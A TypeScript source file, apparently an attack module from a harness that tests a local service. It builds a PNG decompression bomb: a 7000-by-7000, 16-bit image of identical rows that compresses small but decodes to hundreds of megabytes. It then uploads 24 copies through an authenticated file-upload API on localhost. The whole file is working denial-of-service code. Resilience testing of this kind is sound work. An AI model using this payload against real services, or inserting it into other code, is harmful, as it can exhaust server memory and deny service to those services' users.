import { setTimeout as pause } from 'node:timers/promises';
import { crc32, createDeflate } from 'node:zlib';
import { v7 } from 'uuid';
import { type Attack, api } from './target.ts';

const width = 7_000;
const bytesOfPixel = 8;

const chunk = (type: string, data: Uint8Array) => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
};

/** A PNG of 49 megapixels of 64 bits, all of them the same. */
const bomb = async () => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(width, 4);
  header.set([16, 6, 0, 0, 0], 8);
  const deflate = createDeflate({ level: 6 });
  const row = Buffer.alloc(1 + width * bytesOfPixel);
  const write = async () => {
    for (let at = 0; at < width; at += 1) {
      if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve));
    }
    deflate.end();
  };
  void write();
  const pixels = Buffer.concat(await deflate.toArray());
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
};

/** Uploads 24 of them as one user, once. */
export const bombs = ({ target: { port, token }, count }: Attack): void => {
  const base = `http://127.0.0.1:${port}${api}`;
  const headers = () => ({
    authorization: `Bearer ${token}`,
    'content-type': 'application/json',
    'idempotency-key': v7(),
  });
  const upload = async (bytes: Buffer) => {
    const body = JSON.stringify({ name: 'bomb.png' });
    const created = await fetch(`${base}/files`, { method: 'POST', headers: headers(), body });
    const { data } = (await created.json()) as {
      data: { upload: { url: string; method: string; headers: Record<string, string> } };
    };
    const { url, ...how } = data.upload;
    const sent = await fetch(url, { ...how, body: bytes });
    await sent.arrayBuffer();
    count(sent.status);
  };
  const all = async () => {
    const bytes = await bomb();
    for (let at = 0; at < 24; at += 1) {
      await upload(bytes).catch((error: Error) => count(error.message));
      await pause(1);
    }
  };
  void all();
};
